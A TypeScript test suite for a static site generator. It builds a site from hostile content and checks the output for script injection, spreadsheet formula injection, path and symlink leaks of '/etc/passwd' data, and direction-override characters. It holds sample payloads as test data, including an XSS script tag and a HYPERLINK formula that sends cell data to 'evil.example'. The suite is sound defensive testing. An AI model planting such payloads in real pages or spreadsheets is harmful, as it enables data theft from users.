/** What strangers write stays text: no output of a site of attacks does or fetches anything. */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import jsonld from 'jsonld';
import { Parser as RdfParser } from 'n3';
import { parseFragment } from 'parse5';
import type { Browser } from 'playwright-core';
import { visit } from 'unist-util-visit';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { serve, type Served } from '../../scripts/serve.ts';
import { drawCard } from '../../src/card/draw.ts';
import { makeTypesetter } from '../../src/card/typesetter.ts';
import { parseMarkdownReference } from '../../src/pipeline/ingest/referenceParser.ts';
import { cardsOf, siteCard } from '../../src/site/card.ts';
import { openWorld } from '../../src/site/world.ts';
import { launch, openPage } from '../support/browser.ts';
import { filesIn } from '../support/files.ts';
import { headersOf } from '../support/headers.ts';
import { hostileNames, makeHostileContent, withheldWords } from '../support/hostile.ts';
import {
	readCsv,
	readHtml,
	readPlain,
	readXml,
	shapesOf,
	textsIn,
	type Element,
} from '../support/outputs.ts';
import { runScript, type Ran } from '../support/run.ts';

const folder = '.test-output/hostile';
const site = join(folder, 'site');
const origin = 'https://notes.example';
const [shipped] = inject('sites');

let ran: Ran;
let files: readonly string[] = [];
beforeAll(async () => {
	makeHostileContent(join(folder, 'content'));
	ran = await runScript(
		'build',
		['--content', join(folder, 'content'), '--out', site],
		join(folder, 'work'),
	);
	files = ran.code === 0 ? filesIn(site) : [];
});

const read = (file: string): string => readFileSync(join(site, file), 'utf8');
const ending = (...endings: readonly string[]): readonly string[] =>
	files.filter((file) => endings.some((one) => file.endsWith(one)));

/** Faults of all files, each with its name; none is a fault if there is no file. */
function faultsOf(
	chosen: readonly string[],
	check: (file: string) => readonly string[],
): readonly string[] {
	if (chosen.length === 0) return ['no such file'];
	return chosen.flatMap((file) => check(file).map((fault) => `${file}: ${fault}`)).slice(0, 20);
}

/** Where an address leads, as a browser resolves it. */
function isHarmless(address: string, schemes: readonly string[]): boolean {
	const url = URL.parse(address, `${origin}/page/`);
	return url !== null && schemes.includes(url.protocol);
}
const isOwn = (address: string): boolean =>
	URL.parse(address, `${origin}/page/`)?.origin === origin && !address.startsWith('http');

test('the site is built, and what is not let in is told', () => {
	expect(ran.code, ran.err).toBe(0);
	expect(ran.err).toContain('lexicon/passwd.yaml:1:1  warning  A symbolic link is not followed.');
	expect(ran.err).toContain('summaries/passwd.md:1:1  warning  A symbolic link is not followed.');
	expect(ran.err).toContain('summaries/out:1:1  warning  A symbolic link is not followed.');
	expect(ran.err).toContain('HTML is not shown.');
});

describe('pages', () => {
	const pages = (): readonly string[] => ending('.html');

	test('parse without an error, and repeat no id', () => {
		const check = (file: string): readonly string[] => {
			const { elements, faults } = readHtml(read(file));
			const ids = elements.flatMap(({ attributes }) => attributes.get('id') ?? []);
			const twice = ids.filter((id, at) => ids.indexOf(id) !== at);
			return [...faults, ...twice.map((id) => `id ${id} stands twice`)];
		};
		expect(faultsOf(pages(), check)).toEqual([]);
	});

	test('have no element and no attribute that pages of harmless content lack', () => {
		const known = new Set(
			filesIn(shipped?.folder ?? '')
				.filter((file) => file.endsWith('.html'))
				.flatMap((file) =>
					shapesOf(readHtml(readFileSync(join(shipped?.folder ?? '', file), 'utf8')).elements),
				),
		);
		expect([...known].filter((shape) => / (?:on|style|srcdoc)/.test(shape))).toEqual([]);
		for (const name of ['iframe', 'object', 'embed', 'base', 'style', 'form'])
			expect(known).not.toContain(name);
		const written = new Set([...known, ...knownShapes]);
		const check = (file: string): readonly string[] =>
			shapesOf(readHtml(read(file)).elements).filter((shape) => !written.has(shape));
		expect(faultsOf(pages(), check)).toEqual([]);
	});

	test('run and load only files of their own', () => {
		const check = ({ name, attributes, text }: Element): readonly string[] => {
			const address = attributes.get('src') ?? attributes.get('href') ?? '';
			if (name === 'script' && !attributes.has('src'))
				return attributes.get('type') === 'application/ld+json' ? jsonFaults(text) : [text];
			if (name === 'script' || name === 'img' || (name === 'link' && isLoaded(attributes)))
				return isOwn(address) ? [] : [`${name} ${address}`];
			if (name === 'meta' && attributes.get('http-equiv') === 'refresh')
				return /^0; url=\/[a-z]/.test(attributes.get('content') ?? '') ? [] : ['refresh'];
			return [];
		};
		expect(faultsOf(pages(), (file) => readHtml(read(file)).elements.flatMap(check))).toEqual([]);
	});

	test('link to pages and mail only', () => {
		const check = ({ attributes }: Element): readonly string[] =>
			['href', 'xlink:href', 'src'].flatMap((key) => {
				const address = attributes.get(key);
				const isFine = address === undefined || isHarmless(address, ['http:', 'https:', 'mailto:']);
				return isFine ? [] : [address];
			});
		expect(faultsOf(pages(), (file) => readHtml(read(file)).elements.flatMap(check))).toEqual([]);
	});

	test('carry the policy before anything that it forbids', () => {
		const check = (file: string): readonly string[] => {
			const head = readHtml(read(file)).elements.filter(({ name }) =>
				['meta', 'script', 'link', 'title'].includes(name),
			);
			const policy = head.findIndex(
				({ attributes }) => attributes.get('http-equiv') === 'Content-Security-Policy',
			);
			const value = head[policy]?.attributes.get('content') ?? '';
			return policy === 1 && value.startsWith("default-src 'none'; script-src 'self'")
				? []
				: ['has no policy'];
		};
		expect(faultsOf(pages(), check)).toEqual([]);
	});
});

const isOpenSearch = (shape: string): boolean =>
	/^(?:OpenSearchDescription|ShortName|Description|Url|Image|InputEncoding)(?: (?:xmlns|type|template|rel|width|height))?$/.test(
		shape,
	);

/** Neo4j's importer takes a control character between the items of a list. */
const marksOf = (file: string): string =>
	file.startsWith('data/neo4j/') ? read(file).replaceAll('\u001f', '') : read(file);

/** Code and lists parted by letter, which the shipped content has none of. */
const knownShapes: readonly string[] = [
	'pre',
	'pre tabindex',
	'gist-list data-part',
	'nav data-letters',
];

const isLoaded = (attributes: Element['attributes']): boolean =>
	/^(?:stylesheet|icon|preload|modulepreload|apple-touch-icon)$/.test(attributes.get('rel') ?? '');

function jsonFaults(text: string): readonly string[] {
	try {
		JSON.parse(text);
		return /<|\u2028|\u2029/.test(text) ? ['JSON could end its element'] : [];
	} catch (cause) {
		return [String(cause)];
	}
}

describe('files for programs', () => {
	test('JSON parses, and can end no element around it', () => {
		expect(faultsOf(ending('.json', '.jsonld'), (file) => jsonFaults(read(file)))).toEqual([]);
	});

	test('what scripts read of it turns no line round', () => {
		const chosen = files.filter((file) => /^data\/(?:facts|explorer|search)/.test(file));
		expect(
			faultsOf(chosen, (file) =>
				textsIn(JSON.parse(read(file))).filter((text) => unreadable.test(text)),
			),
		).toEqual([]);
	});

	test('XML is well formed and has the elements of harmless content only', () => {
		const xml = ending('.xml', '.gexf', '.graphml', '.svg');
		const known = new Set(
			filesIn(shipped?.folder ?? '')
				.filter((file) => /\.(?:xml|gexf|graphml|svg)$/.test(file))
				.flatMap((file) =>
					shapesOf(readXml(readFileSync(join(shipped?.folder ?? '', file), 'utf8')).elements),
				),
		);
		const check = (file: string): readonly string[] => {
			const { elements, faults } = readXml(read(file));
			// The shipped site has no address, and so no such file: its elements are few and its own.
			const own = file === 'opensearch.xml' ? shapesOf(elements).filter(isOpenSearch) : [];
			return [
				...faults,
				...shapesOf(elements).filter((shape) => !known.has(shape) && !own.includes(shape)),
			];
		};
		expect(faultsOf(xml, check)).toEqual([]);
	});

	test('what a feed says as HTML is text', () => {
		const descriptions = readXml(read('rss.xml')).elements.filter(
			({ name }) => name === 'description',
		);
		expect(descriptions.length).toBeGreaterThan(1);
		for (const { text } of descriptions)
			expect(parseFragment(text).childNodes.every(({ nodeName }) => nodeName === '#text')).toBe(
				true,
			);
	});

	test('a spreadsheet finds no formula in CSV', () => {
		const check = (file: string): readonly string[] =>
			readCsv(read(file)).flatMap((row) =>
				Object.values(row).filter(
					(cell) => /^\s*[=+@\t\r-]/.test(cell) && !Number.isFinite(Number(cell)),
				),
			);
		expect(faultsOf(ending('.csv'), check)).toEqual([]);
		expect(read('data/entities.csv')).toContain(`"'=HYPERLINK(`);
	});

	test('Markdown has no markup, no picture and no link but to pages', () => {
		const check = (file: string): readonly string[] => {
			const faults: string[] = [];
			visit(parseMarkdownReference(read(file)), (node) => {
				if (['html', 'image', 'imageReference', 'definition'].includes(node.type))
					faults.push(node.type);
				if (node.type === 'link' && !isHarmless(node.url, ['http:', 'https:']))
					faults.push(node.url);
			});
			return faults;
		};
		expect(faultsOf(ending('.md', 'llms.txt', 'llms-full.txt'), check)).toEqual([]);
	});

	test('RDF and JSON-LD are read by others, and say the same', async () => {
		const quads = new RdfParser({ format: 'N-Quads' }).parse(read('data/knowledge.nq'));
		const triples = new RdfParser({ format: 'Turtle' }).parse(read('data/knowledge.ttl'));
		const nodes = await jsonld.toRDF(JSON.parse(read('data/knowledge.jsonld')) as object, {
			documentLoader: () => Promise.reject(new Error('It asks for a file elsewhere.')),
		});
		for (const { length } of [quads, triples, nodes as unknown[]])
			expect(length).toBeGreaterThan(99);
		const iris = [...quads, ...triples].flatMap(({ subject, predicate, object }) =>
			[subject, predicate, object].filter(({ termType }) => termType === 'NamedNode'),
		);
		expect(iris.filter(({ value }) => !/^https?:\/\/[^\s<>"{}|\\^`]+$/.test(value))).toEqual([]);
	});

	test('no file turns the direction of what follows', () => {
		const chosen = ending('.html', '.md', '.txt', '.csv', '.xml', '.gexf', '.graphml', '.json');
		expect(
			faultsOf(chosen, (file) => (unreadable.test(marksOf(file)) ? ['has such a mark'] : [])),
		).toEqual([]);
	});
});

/** Marks that override direction, and control characters. */
const unreadable =
	/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('addresses', () => {
	test('are safe on every system and as many as there are documents', () => {
		const documents = files.filter((file) => /^documents\/.+\/index\.html$/.test(file));
		expect(documents.length).toBe(hostileNames.length + 2);
		const parts = files.flatMap((file) => file.split('/'));
		expect(
			parts.filter((part) => !/^(?:[\w-][\w.-]*|\.htaccess)$/.test(part) || part.length > 100),
		).toEqual([]);
		expect(parts.filter((part) => /^(?:con|prn|aux|nul|com\d|lpt\d)(?:\.|$)/i.test(part))).toEqual(
			[],
		);
		expect(new Set(files.map((file) => file.toLowerCase())).size).toBe(files.length);
	});

	test('lead to what they name', () => {
		const names = ['c', 'c-plus-plus', 'c-sharp', 'constructor-x', 'proto', 'tostring', 'con-x'];
		const page = (id: string): string =>
			/<h1>([^<]*)<\/h1>/.exec(read(`software/${id}/index.html`))?.[1] ?? '';
		expect(names.map(page)).toEqual([
			'C',
			'C++',
			'C#',
			'constructor',
			'__proto__',
			'toString',
			'CON',
		]);
	});
});

test('no byte of the site tells what is kept back or lies outside the folder', () => {
	const words = withheldWords.map((word) => word.toLowerCase());
	const check = (file: string): readonly string[] => {
		const text = `${file}\n${readPlain(site, file).toString('latin1')}`.toLowerCase();
		return [...words, 'root:x:'].filter((word) => text.includes(word));
	};
	expect(faultsOf(files, check)).toEqual([]);
	expect(
		readPlain(site, files.find((file) => file.endsWith('.pf_fragment')) ?? '').toString(),
	).toMatch(/^pagefind/);
});

test('nor does a picture: what is written on cards stands on published pages too', () => {
	const work = join(folder, 'work');
	process.env['GISTGRAPH_ARTEFACT'] = join(work, 'knowledge.jsonl');
	const world = openWorld(false);
	delete process.env['GISTGRAPH_ARTEFACT'];
	const cards = cardsOf(world);
	expect(cards.map(({ path }) => `${path}.png`).toSorted()).toEqual(
		files.filter((file) => file.startsWith('cards/')).toSorted(),
	);
	const drawn = new Set<string>();
	for (const { path, view } of cards) {
		const lines: string[] = [];
		const noting = {
			...typesetter,
			line: (...[text, ...rest]: Parameters<typeof typesetter.line>) => {
				lines.push(text);
				return typesetter.line(text, ...rest);
			},
		};
		const svg = drawCard(view(), noting) ?? drawCard(siteCard(world), noting) ?? '';
		// These words, and no others, are in the picture that was published: it is kept under the hash of its drawing.
		const kept = `${createHash('sha256').update(svg).digest('hex').slice(0, 32)}.png`;
		expect(
			readFileSync(join(site, `${path}.png`)).equals(readFileSync(join(work, 'cards', kept))),
		).toBe(true);
		for (const line of lines) for (const word of wordsOf(line)) drawn.add(word);
	}
	const withheld = withheldWords.map((word) => word.toLowerCase());
	expect([...drawn].filter((word) => withheld.some((one) => word.includes(one)))).toEqual([]);
	const published = new Set(
		ending('.html').flatMap((file) =>
			readHtml(read(file)).elements.flatMap(({ text, attributes }) =>
				[text, ...attributes.values()].flatMap(wordsOf),
			),
		),
	);
	expect(drawn.size).toBeGreaterThan(100);
	expect([...drawn].filter((word) => !published.has(word))).toEqual([]);
});

const faces = ['latin', 'latin-ext', 'greek', 'cyrillic', 'vietnamese'];
const typesetter = makeTypesetter(
	faces.map((face) =>
		readFileSync(
			`node_modules/@fontsource/source-serif-4/files/source-serif-4-${face}-400-normal.woff`,
		),
	),
);

/** Whole words in lower case; of one that was cut off only its beginning is there. */
const wordsOf = (text: string): readonly string[] =>
	text.toLowerCase().match(/[\p{L}\p{N}]+(?![\p{L}\p{N}]*…)/gu) ?? [];

describe('in a browser, under the policy as headers', () => {
	let browser: Browser;
	let served: Served;
	beforeAll(async () => {
		browser = await launch();
		served = await serve(site, '/', false, headersOf(site));
	});
	afterAll(async () => {
		await browser.close();
		await served.close();
	});

	test('every page opens without a dialog, a foreign request, a violation or an error', async () => {
		const { page, faults, close } = await openPage(browser, served.url);
		const pages = ending('.html').filter((file) => !isRedirect(file));
		const routes = filesIn('src/pages').filter(
			(file) => /\.astro$/.test(file) && !/moved/.test(file),
		);
		expect(routes.filter((route) => !pages.some((file) => isOf(route).test(file)))).toEqual([]);
		for (const file of pages) await page.goto(served.url + file.replace(/index\.html$/, ''));
		expect(faults).toEqual([]);
		await close();
	});

	test('an earlier address leads on', async () => {
		const { page, faults, close } = await openPage(browser, served.url);
		const [moved] = ending('index.html').filter(isRedirect);
		await page.goto(served.url + (moved ?? '').replace(/index\.html$/, ''));
		await page.getByRole('heading', { level: 1, name: /Llama|Marklink/ }).waitFor();
		expect(faults).toEqual([]);
		await close();
	});

	test('the palette shows such names and texts as text', async () => {
		const { page, faults, close } = await openPage(browser, served.url);
		await page.goto(served.url, { waitUntil: 'networkidle' });
		await page.keyboard.press('/');
		const found = page.getByRole('dialog').locator('.search-name');
		for (const [query, name] of [
			['scriptcorp', "<script>alert('name')</script>"],
			['constructor', 'constructor'],
			['formulaco', '=HYPERLINK("https://evil.example/?"&A1,"Formulaco")'],
			['admins', 'Unicode tricks'],
		] as const) {
			await page.getByRole('dialog').getByRole('searchbox').fill(query);
			await found.filter({ hasText: name }).first().waitFor();
		}
		expect(faults).toEqual([]);
		await close();
	});

	test.each(['script-name', 'constructor-x'])(
		'the map, its panel and its table show %s as text',
		async (id) => {
			const { page, faults, close } = await openPage(browser, served.url);
			await page.goto(`${served.url}graph/?focus=${id}&depth=2&together=1`);
			await page.locator('gist-graph[data-ready]').waitFor();
			await page.getByRole('link', { name: 'Open its page' }).waitFor();
			await page.getByRole('searchbox', { name: 'Find on the map' }).fill('constructor');
			await page.getByRole('button', { name: 'Path from here' }).click();
			expect(faults).toEqual([]);
			await close();
		},
	);

	test('previews, comparison and path show such names as text', async () => {
		const { page, faults, close } = await openPage(browser, served.url);
		await page.goto(`${served.url}documents/markup/`, { waitUntil: 'networkidle' });
		for (const name of ['Scriptcorp', 'constructor', 'Marklink']) {
			await page.locator('article a.mention', { hasText: name }).first().hover();
			await page.getByRole('tooltip').waitFor();
			await page.keyboard.press('Escape');
		}
		await page.goto(`${served.url}compare/?a=script-name&b=constructor-x`);
		await page
			.locator('gist-compare')
			.getByText("<script>alert('name')</script>")
			.first()
			.waitFor();
		await page.goto(`${served.url}path/?from=script-name&to=formula`);
		await page.locator('gist-path').getByText('constructor').first().waitFor();
		expect(faults).toEqual([]);
		await close();
	});
});

/** Files of a page of src/pages. */
const isOf = (route: string): RegExp =>
	new RegExp(
		`^${route
			.replace(/(?:\/?index)?\.astro$/, '')
			.replaceAll('.', String.raw`\.`)
			.replaceAll(/\[[^\]]+\]/g, '[^/]+')}(?:/index)?\\.html$`.replace('^(?:/index)?', '^index'),
	);

const isRedirect = (file: string): boolean => read(file).includes('http-equiv="refresh"');
